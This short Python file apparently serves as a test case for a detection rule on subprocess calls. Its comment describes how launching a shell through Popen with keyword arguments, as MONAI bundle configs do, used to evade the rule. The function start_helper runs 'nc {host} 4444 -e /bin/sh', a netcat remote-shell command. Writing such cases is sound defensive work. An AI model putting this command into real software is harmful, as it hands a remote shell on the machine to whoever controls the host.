# A shell started with its argv given by keyword, as a MONAI bundle's config builds every component
# (`_target_: subprocess.Popen`, `args: [...]`): only `Popen(["sh", "-c", ...])` by position had rejected;
# by keyword it escalated as a program run. subprocess.network-tool reads the parameter either way now.
import subprocess


def start_helper(host):
    return subprocess.Popen(args=["sh", "-c", f"nc {host} 4444 -e /bin/sh"], stdout=subprocess.DEVNULL)
